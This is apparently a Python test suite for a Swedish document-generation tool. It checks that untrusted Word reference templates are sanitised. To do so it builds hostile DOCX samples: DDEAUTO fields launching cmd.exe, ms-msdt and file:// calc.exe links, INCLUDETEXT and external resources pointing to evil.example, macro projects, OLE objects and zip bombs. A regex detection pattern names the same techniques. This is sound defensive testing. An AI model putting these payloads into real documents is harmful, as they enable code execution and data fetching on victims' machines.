"""SV020: a reference document from an untrusted repository gives styles, numbering, fonts,
page set-up, header and footer, and nothing else. Active content (fields that fetch or
include, external resources, macros, embedded objects) is refused with a located problem;
what is merely not needed is dropped; a zip bomb, a non-zip or a package without its main
parts is refused before it costs anything; a reference lacking styles the writer needs still
gives a document. Every hostile reference is made from the committed templates/reference.docx.
"""

from __future__ import annotations

import io
import random
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import docx
import pytest
from docx.oxml.ns import qn

from samverkan_cli.core.errors import ProblemsFound
from samverkan_cli.core.problems import Severity
from samverkan_cli.document.tree import (
    BulletList,
    Contents,
    ContentsEntry,
    Document,
    DocumentInfo,
    Heading,
    ListItem,
    OrderedList,
    Paragraph,
    Span,
    Table,
)
from samverkan_cli.source import docx_zip as reference_zip
from samverkan_cli.source.reference_check import reference_problems
from samverkan_cli.writers.docx import write_docx
from tests.conftest import REPO_ROOT

SHIPPED = REPO_ROOT / "templates" / "reference.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = f'xmlns:w="{W}" xmlns:r="{R}"'
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
SHOWN = "templates/kommunen.docx"

DOCUMENT = Document(
    blocks=(
        Contents((ContentsEntry(1, "Rubrik"),)),
        Heading(1, (Span("Rubrik"),)),
        Heading(2, (Span("Underrubrik"),)),
        Paragraph((Span("Text."),)),
        BulletList((ListItem((Paragraph((Span("punkt"),)),)),)),
        OrderedList((ListItem((Paragraph((Span("ett"),)),)),), start=3),
        Table(((Span("A"),), (Span("B"),)), (((Span("1"),), (Span("2"),)),)),
    ),
    info=DocumentInfo(title="Överenskommelse", header=("Dnr 1",)),
)
"""Every kind of block the writer styles (headings, lists, contents, table)."""

ACTIVE = re.compile(
    rb"INCLUDE|TargetMode=\"External\"|attachedTemplate|vbaProject|\bDDE(AUTO)?\b|oleObject"
    rb"|documentProtection|linkStyles|evil\.example",
    re.IGNORECASE,
)


# --- hostile references, made from the shipped one ---------------------------------------


def shipped_members() -> dict[str, bytes]:
    with zipfile.ZipFile(SHIPPED) as package:
        return {name: package.read(name) for name in package.namelist()}


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return path


def add_relationship(
    members: dict[str, bytes], rels: str, rid: str, kind: str, target: str, external: bool
) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    text = members.get(rels, b"").decode() or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    )
    members[rels] = text.replace("</Relationships>", entry + "</Relationships>").encode()


def add_override(members: dict[str, bytes], part: str, content_type: str) -> None:
    types = members["[Content_Types].xml"].decode()
    entry = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    members["[Content_Types].xml"] = types.replace("</Types>", entry + "</Types>").encode()


def add_header(members: dict[str, bytes], body: str, kind: str = "header") -> None:
    """A default header (or footer) part with `body` inside, referenced from the section."""
    tag = "hdr" if kind == "header" else "ftr"
    part = f"word/{kind}9.xml"
    members[part] = f"<w:{tag} {NS}>{body}</w:{tag}>".encode()
    add_relationship(
        members, "word/_rels/document.xml.rels", "rId90", f"{REL}/{kind}", f"{kind}9.xml", False
    )
    add_override(members, part, HEADER_TYPE.replace("header", kind))
    reference = f'<w:{kind}Reference w:type="default" r:id="rId90"/>'
    document = members["word/document.xml"].decode()
    members["word/document.xml"] = re.sub(
        r"(<w:sectPr[^>]*>)", r"\1" + reference, document
    ).encode()


def add_body(members: dict[str, bytes], body: str) -> None:
    document = members["word/document.xml"].decode()
    members["word/document.xml"] = document.replace("<w:body>", "<w:body>" + body).encode()


def edit_settings(members: dict[str, bytes], inserted: str) -> None:
    settings = members["word/settings.xml"].decode()
    members["word/settings.xml"] = settings.replace("<w:zoom ", inserted + "<w:zoom ").encode()


def simple_field(instruction: str) -> str:
    instr = quoteattr(instruction)
    return f"<w:p><w:fldSimple w:instr={instr}><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"


def complex_field(instruction: str) -> str:
    """A field split over runs the way Word writes it (the type split in two)."""
    half = len(instruction) // 2
    first, second = escape(instruction[:half]), escape(instruction[half:])
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{first}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{second}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested_field(instruction: str) -> str:
    """A field whose type is the result of a field inside it: { { QUOTE "INCLUDETEXT" } … }."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText> QUOTE "{instruction}" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText> "https://evil.example/x.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def refused(path: Path) -> list[str]:
    """The SV020 messages for the reference, after checking that they are all located at
    its start and that the writer refuses it too (a problem, never another exception)."""
    problems = reference_problems(path, SHOWN)
    assert problems, "the reference was accepted"
    for problem in problems:
        assert (problem.rule, problem.severity) == ("SV020", Severity.ERROR)
        assert str(problem.location) == f"{SHOWN}:1:1"
        assert problem.message.startswith(f"referensdokumentet {SHOWN} kan inte användas: ")
    with pytest.raises(ProblemsFound) as raised:
        write_docx(DOCUMENT, path)
    assert {p.rule for p in raised.value.problems} == {"SV020"}
    return [p.message for p in problems]


def assert_inert(output: bytes) -> None:
    """No part of the output DOCX holds anything that fetches, includes or runs."""
    with zipfile.ZipFile(io.BytesIO(output)) as package:
        for name in package.namelist():
            found = ACTIVE.search(package.read(name))
            assert found is None, (name, found)


# --- the shipped reference ----------------------------------------------------------------


def test_the_shipped_reference_has_no_problems() -> None:
    assert reference_problems(SHIPPED, "templates/reference.docx") == []


def test_the_check_loads_neither_python_docx_nor_lxml() -> None:
    code = (
        "import sys, pathlib\n"
        "from samverkan_cli.source.reference_check import reference_problems\n"
        f"assert reference_problems(pathlib.Path({str(SHIPPED)!r}), 'r') == []\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('docx', 'lxml')))\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.strip() == "[]"


# --- fields that fetch, include, run or prompt --------------------------------------------

FIELDS = [
    'INCLUDETEXT "https://evil.example/a.docx"',
    'INCLUDEPICTURE "https://evil.example/p.png" \\d',
    'includetext "\\\\\\\\evil.example\\\\share\\\\a.docx"',
    'INCLUDE "c:\\\\a.docx"',
    'LINK Word.Document.12 "https://evil.example/a.docx" ""',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'DDE "cmd" "/c calc"',
    'IMPORT "https://evil.example/p.wmf"',
    'DATABASE \\d "https://evil.example/db.mdb" \\s "select 1"',
    "AUTOTEXT Signatur",
    "MACROBUTTON AutoOpen Klicka",
    'FILLIN "Ange ditt lösenord"',
    'HYPERLINK "file:///c:/windows/system32/calc.exe"',
    'HYPERLINK "\\\\\\\\evil.example\\\\share"',
    'HYPERLINK "ms-msdt:/id PCWDiagnostic"',
    "SOMETHINGNEW 1",
]


@pytest.mark.parametrize("instruction", FIELDS)
@pytest.mark.parametrize("make", [simple_field, complex_field], ids=["fldSimple", "fldChar"])
@pytest.mark.parametrize("where", ["body", "header", "footer"])
def test_a_field_that_fetches_includes_or_runs_is_refused(
    tmp_path: Path, instruction: str, make: Callable[[str], str], where: str
) -> None:
    members = shipped_members()
    if where == "body":
        add_body(members, make(instruction))
    else:
        add_header(members, make(instruction), where)
    messages = refused(write_zip(tmp_path / "r.docx", members))
    part = "word/document.xml" if where == "body" else f"word/{where}9.xml"
    assert any(f"i delen {part}" in m for m in messages), messages


def test_a_field_whose_type_another_field_computes_is_refused(tmp_path: Path) -> None:
    members = shipped_members()
    add_header(members, nested_field("INCLUDETEXT"))
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "ett fält vars typ räknas fram av ett annat fält i delen word/header9.xml" in message


def test_page_fields_and_a_web_link_field_are_kept(tmp_path: Path) -> None:
    members = shipped_members()
    header = complex_field("PAGE \\* MERGEFORMAT") + simple_field(
        ' HYPERLINK "https://polisen.se" '
    )
    add_header(members, header, "footer")
    path = write_zip(tmp_path / "r.docx", members)
    assert reference_problems(path, SHOWN) == []
    write_docx(DOCUMENT, path)


# --- external relationships, macros, embedded objects -------------------------------------


EXTERNAL = [
    ("word/_rels/document.xml.rels", "image", "https://evil.example/p.png"),
    ("word/_rels/document.xml.rels", "oleObject", "file:///c:/a.xlsx"),
    ("word/_rels/document.xml.rels", "subDocument", "\\\\evil.example\\share\\a.docx"),
    ("word/_rels/document.xml.rels", "hyperlink", "file:///c:/windows/system32/calc.exe"),
    ("word/_rels/document.xml.rels", "hyperlink", "search-ms:query=evil"),
    ("word/_rels/webSettings.xml.rels", "frame", "https://evil.example/frame.docx"),
    ("word/_rels/styles.xml.rels", "image", "https://evil.example/p.png"),
    ("word/_rels/numbering.xml.rels", "image", "\\\\evil.example\\p.png"),
    ("word/theme/_rels/theme1.xml.rels", "image", "https://evil.example/p.png"),
    ("_rels/.rels", "thumbnail", "https://evil.example/t.jpeg"),
]


@pytest.mark.parametrize(("rels", "kind", "target"), EXTERNAL)
def test_an_external_resource_is_refused(tmp_path: Path, rels: str, kind: str, target: str) -> None:
    members = shipped_members()
    add_relationship(members, rels, "rId99", f"{REL}/{kind}", target, True)
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "i delen " in message


def test_an_external_picture_in_the_header_is_refused(tmp_path: Path) -> None:
    members = shipped_members()
    add_header(members, "<w:p><w:r><w:t>logo</w:t></w:r></w:p>")
    add_relationship(
        members,
        "word/_rels/header9.xml.rels",
        "rId1",
        f"{REL}/image",
        "https://evil.example/l.png",
        True,
    )
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "i delen word/header9.xml" in message


def test_a_macro_project_is_refused(tmp_path: Path) -> None:
    members = shipped_members()
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    add_relationship(
        members,
        "word/_rels/document.xml.rels",
        "rId99",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
        False,
    )
    add_override(members, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    messages = refused(write_zip(tmp_path / "r.docx", members))
    assert any("makron" in m for m in messages)


def test_a_macro_enabled_document_is_refused(tmp_path: Path) -> None:
    members = shipped_members()
    types = (
        members["[Content_Types].xml"]
        .decode()
        .replace("wordprocessingml.document.main+xml", "PLACEHOLDER")
    )
    members["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.PLACEHOLDER",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).encode()
    assert "macroEnabled" in members["[Content_Types].xml"].decode()
    assert any("makron" in m for m in refused(write_zip(tmp_path / "r.docx", members)))


@pytest.mark.parametrize(
    "inside",
    [
        '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Link" ProgID="Excel.Sheet.12" r:id="rId1"/></w:object>',
        '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        'src="https://evil.example/p.png"/></v:shape></w:pict>',
        '<w:control r:id="rId1"/>',
    ],
    ids=["ole", "vml-src", "activex"],
)
def test_an_embedded_or_linked_object_in_the_header_is_refused(tmp_path: Path, inside: str) -> None:
    members = shipped_members()
    add_header(members, f"<w:p><w:r>{inside}</w:r></w:p>")
    assert refused(write_zip(tmp_path / "r.docx", members))


def test_an_altchunk_that_imports_another_document_is_refused(tmp_path: Path) -> None:
    members = shipped_members()
    members["word/chunk.html"] = b'<html><img src="https://evil.example/p.png"></html>'
    add_relationship(
        members, "word/_rels/document.xml.rels", "rId99", f"{REL}/aFChunk", "chunk.html", False
    )
    add_body(members, '<w:altChunk r:id="rId99"/>')
    assert any("altChunk" in m for m in refused(write_zip(tmp_path / "r.docx", members)))


# --- dropped without a word ---------------------------------------------------------------


def test_harmless_extras_are_dropped_and_the_output_is_inert(tmp_path: Path) -> None:
    """An attached template (remote), a web link in the header, linked styles, protection,
    a body with a picture and a claimed status: none reaches the output."""
    members = shipped_members()
    add_relationship(
        members,
        "word/_rels/settings.xml.rels",
        "rId1",
        f"{REL}/attachedTemplate",
        "https://evil.example/template.dotm",
        True,
    )
    edit_settings(
        members,
        '<w:attachedTemplate r:id="rId1"/><w:linkStyles/>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>',
    )
    add_header(
        members,
        '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>polisen.se</w:t></w:r></w:hyperlink></w:p>',
    )
    add_relationship(
        members,
        "word/_rels/header9.xml.rels",
        "rId1",
        f"{REL}/hyperlink",
        "https://evil.example/",
        True,
    )
    members["word/media/body.png"] = b"\x89PNG\r\n\x1a\n evil.example"
    add_relationship(
        members, "word/_rels/document.xml.rels", "rId98", f"{REL}/image", "media/body.png", False
    )
    add_body(members, "<w:p><w:r><w:t>Exempeltext i referensen</w:t></w:r></w:p>")
    core = members["docProps/core.xml"].decode()
    members["docProps/core.xml"] = core.replace(
        "</cp:coreProperties>",
        "<cp:contentStatus>Fastställd</cp:contentStatus></cp:coreProperties>",
    ).encode()
    members["word/glossary/document.xml"] = f"<w:glossaryDocument {NS}/>".encode()
    add_relationship(
        members,
        "word/_rels/document.xml.rels",
        "rId97",
        f"{REL}/glossaryDocument",
        "glossary/document.xml",
        False,
    )
    members["word/fonts/font1.odttf"] = b"evil.example font"
    add_relationship(
        members, "word/_rels/fontTable.xml.rels", "rId1", f"{REL}/font", "fonts/font1.odttf", False
    )
    fonts = members["word/fontTable.xml"].decode()
    members["word/fontTable.xml"] = fonts.replace(
        "</w:font>",
        '<w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>',
        1,
    ).encode()
    app = members["docProps/app.xml"].decode()
    members["docProps/app.xml"] = app.replace(
        "<HyperlinkBase/>", "<HyperlinkBase>\\\\evil.example\\</HyperlinkBase>"
    ).encode()
    path = write_zip(tmp_path / "r.docx", members)
    assert reference_problems(path, SHOWN) == []
    output = write_docx(DOCUMENT, path)
    assert_inert(output)
    with zipfile.ZipFile(io.BytesIO(output)) as package:
        names = package.namelist()
        assert not any("glossary" in n or "fonts/" in n or "media/" in n for n in names), names
        assert b"embedRegular" not in package.read("word/fontTable.xml")
    built = docx.Document(io.BytesIO(output))
    assert built.core_properties.content_status == ""
    assert "Exempeltext" not in "".join(p.text for p in built.paragraphs)
    header = built.sections[0].header._element
    assert "".join(t.text for t in header.iter(qn("w:t"))).startswith("Överenskommelse")


def test_a_web_link_kept_in_a_second_header_paragraph_loses_only_its_address(
    tmp_path: Path,
) -> None:
    members = shipped_members()
    add_header(
        members,
        '<w:p/><w:tbl><w:tr><w:tc><w:p><w:hyperlink r:id="rId1"><w:r><w:t>polisen.se</w:t>'
        "</w:r></w:hyperlink></w:p></w:tc></w:tr></w:tbl>",
    )
    add_relationship(
        members,
        "word/_rels/header9.xml.rels",
        "rId1",
        f"{REL}/hyperlink",
        "https://polisen.se/",
        True,
    )
    output = write_docx(DOCUMENT, write_zip(tmp_path / "r.docx", members))
    assert_inert(output)
    with zipfile.ZipFile(io.BytesIO(output)) as package:
        headers = [package.read(n) for n in package.namelist() if "header" in n]
    assert any(b"polisen.se" in h for h in headers)
    assert not any(b"hyperlink" in h for h in headers)


# --- zip bombs and packages that are no .docx ---------------------------------------------


def test_a_member_that_unpacks_far_larger_is_refused_before_unpacking(tmp_path: Path) -> None:
    members = shipped_members()
    members["word/media/bomb.xml"] = b"\0" * (10 * 1024 * 1024)
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "zip-bomb" in message


def test_more_than_the_total_size_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reference_zip, "MAX_TOTAL_BYTES", 1024 * 1024)
    members = shipped_members()
    members["word/media/big.bin"] = random.Random(1).randbytes(1024 * 1024)  # incompressible
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "packas upp till" in message and "högst 1 MB" in message


def test_a_directory_that_understates_a_size_is_caught_while_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    members = shipped_members()
    members["word/media/liar.xml"] = b"<x/>" * 50_000
    data = bytearray(write_zip(tmp_path / "r.docx", members).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        entry = package.getinfo("word/media/liar.xml")
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local, central
        at = data.find(signature + b"", 0)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(entry.filename)] == entry.filename.encode():
                data[at + offset : at + offset + 4] = (100).to_bytes(4, "little")
            at = data.find(signature, at + 4)
    path = tmp_path / "liar.docx"
    path.write_bytes(bytes(data))
    [message] = refused(path)
    assert "word/media/liar.xml" in message


def test_too_many_members_is_refused_without_reading_them(tmp_path: Path) -> None:
    members = shipped_members()
    for number in range(reference_zip.MAX_MEMBERS):
        members[f"word/media/m{number}.txt"] = b""
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert f"fler än {reference_zip.MAX_MEMBERS} delar" in message


def test_a_file_larger_than_the_limit_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reference_zip, "MAX_FILE_BYTES", 1000)
    [message] = refused(SHIPPED)
    assert "ett referensdokument får vara högst" in message


@pytest.mark.parametrize(
    "content",
    [b"", b"inte en docx", b"PK\x03\x04" + b"\0" * 100, b"PK\x05\x06" + b"\0" * 18],
    ids=["empty", "text", "broken-zip", "empty-zip"],
)
def test_a_file_that_is_no_zip_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "r.docx"
    path.write_bytes(content)
    assert refused(path)


@pytest.mark.parametrize(
    ("dropped", "expected"),
    [
        ("word/document.xml", "huvuddokumentet"),
        ("word/styles.xml", "formatmallarna"),
        ("[Content_Types].xml", "Content_Types"),
        ("_rels/.rels", "huvuddokumentet"),
    ],
)
def test_a_package_without_its_main_parts_is_refused(
    tmp_path: Path, dropped: str, expected: str
) -> None:
    members = shipped_members()
    del members[dropped]
    messages = refused(write_zip(tmp_path / "r.docx", members))
    assert any(expected in m for m in messages), messages


@pytest.mark.parametrize(
    "content",
    [b"<w:styles", b'<!DOCTYPE x [<!ENTITY a "b">]><w:styles/>', b"\xff\xfe<\0x\0"],
    ids=["unclosed", "entity", "utf16-garbage"],
)
def test_a_part_that_is_no_xml_is_refused(tmp_path: Path, content: bytes) -> None:
    members = shipped_members()
    members["word/styles.xml"] = content
    assert refused(write_zip(tmp_path / "r.docx", members))


def test_a_name_with_control_characters_is_shown_harmlessly(tmp_path: Path) -> None:
    members = shipped_members()
    add_relationship(
        members,
        "word/_rels/document.xml.rels",
        "rId99",
        f"{REL}/image",
        "https://e\u202e\x85/x",
        True,
    )
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "https://e??/x" in message


# --- references that lack what the writer needs -------------------------------------------


def _without_styles(members: dict[str, bytes], keep: tuple[str, ...] = ("Normal",)) -> None:
    styles = members["word/styles.xml"].decode()
    kept = [
        s
        for s in re.findall(r"<w:style [^>]*>.*?</w:style>", styles, re.S)
        if re.search(r'<w:name w:val="([^"]*)"', s).group(1) in keep  # type: ignore[union-attr]
    ]
    head = styles[: styles.index("<w:style ")]
    members["word/styles.xml"] = (head + "".join(kept) + "</w:styles>").encode()


def test_a_reference_without_the_writers_styles_still_gives_them(tmp_path: Path) -> None:
    members = shipped_members()
    _without_styles(members)
    del members["word/numbering.xml"]
    output = write_docx(DOCUMENT, write_zip(tmp_path / "r.docx", members))
    built = docx.Document(io.BytesIO(output))
    styles = {p.text: p.style.name for p in built.paragraphs}
    assert styles["Rubrik"] in ("Heading 1", "TOC 1")
    assert "Heading 1" in styles.values() and "Heading 2" in styles.values()
    assert styles["punkt"] == "List Bullet" and styles["ett"] == "List Number"
    number = built.styles["List Number"].element.pPr.numPr.numId.val
    numbering = built.part.numbering_part.element
    assert any(n.numId == number for n in numbering.num_lst)
    assert built.tables[0].style.name == "Table Grid"


def test_styles_of_the_wrong_kind_or_without_an_id_are_replaced(tmp_path: Path) -> None:
    members = shipped_members()
    styles = members["word/styles.xml"].decode()
    styles = styles.replace(
        'w:type="table" w:styleId="TableGrid"', 'w:type="paragraph" w:styleId="TableGrid"'
    )
    styles = styles.replace('w:styleId="Heading1"', "")
    members["word/styles.xml"] = styles.encode()
    output = write_docx(DOCUMENT, write_zip(tmp_path / "r.docx", members))
    built = docx.Document(io.BytesIO(output))
    assert built.tables[0].style.type == docx.enum.style.WD_STYLE_TYPE.TABLE


@pytest.mark.parametrize(
    "header",
    ["", "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>", "EMPTY-PART"],
    ids=["no-paragraph", "only-a-table", "zero-bytes"],
)
def test_an_empty_header_part_gets_the_header(tmp_path: Path, header: str) -> None:
    members = shipped_members()
    add_header(members, header)
    if header == "EMPTY-PART":
        members["word/header9.xml"] = b""
    path = write_zip(tmp_path / "r.docx", members)
    assert reference_problems(path, SHOWN) == []
    built = docx.Document(io.BytesIO(write_docx(DOCUMENT, path)))
    text = "\n".join(p.text for p in built.sections[0].header.paragraphs)
    assert "Överenskommelse" in text and "Dnr 1" in text


def test_a_body_without_section_properties_gets_a4(tmp_path: Path) -> None:
    members = shipped_members()
    document = members["word/document.xml"].decode()
    members["word/document.xml"] = re.sub(
        r"<w:sectPr.*</w:sectPr>", "", document, flags=re.S
    ).encode()
    built = docx.Document(io.BytesIO(write_docx(DOCUMENT, write_zip(tmp_path / "r.docx", members))))
    assert round(built.sections[0].page_width.cm, 1) == 21.0


@pytest.mark.parametrize("part", ["word/styles.xml", "word/header9.xml", "word/numbering.xml"])
def test_a_part_declared_as_something_else_is_refused_or_left_out(
    tmp_path: Path, part: str
) -> None:
    """python-docx picks a part's class by its content type: a header declared as a picture
    would not be a header to it."""
    members = shipped_members()
    add_header(members, "<w:p/>")
    add_override(members, part, "image/png")
    path = write_zip(tmp_path / "r.docx", members)
    if part == "word/styles.xml":
        assert refused(path)
    else:
        assert reference_problems(path, SHOWN) == []
        docx.Document(io.BytesIO(write_docx(DOCUMENT, path)))


def test_a_template_dotx_is_read_as_a_document(tmp_path: Path) -> None:
    members = shipped_members()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml"
    )
    path = write_zip(tmp_path / "r.dotx", members)
    assert reference_problems(path, SHOWN) == []
    docx.Document(io.BytesIO(write_docx(DOCUMENT, path)))


# --- updating fields on opening -----------------------------------------------------------


def test_word_updates_fields_on_opening_only_with_a_contents(tmp_path: Path) -> None:
    members = shipped_members()
    edit_settings(members, '<w:updateFields w:val="true"/>')
    path = write_zip(tmp_path / "r.docx", members)
    without = Document(DOCUMENT.blocks[1:], DOCUMENT.info)
    for document, expected in ((DOCUMENT, True), (without, False)):
        built = docx.Document(io.BytesIO(write_docx(document, path)))
        assert (built.settings.element.find(qn("w:updateFields")) is not None) is expected


def test_a_part_in_utf16_is_read_as_well(tmp_path: Path) -> None:
    members = shipped_members()
    add_header(members, simple_field('INCLUDETEXT "https://evil.example/a.docx"'))
    text = members["word/header9.xml"].decode()
    members["word/header9.xml"] = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode(
        "utf-16"
    )
    [message] = refused(write_zip(tmp_path / "r.docx", members))
    assert "fältet INCLUDETEXT i delen word/header9.xml" in message
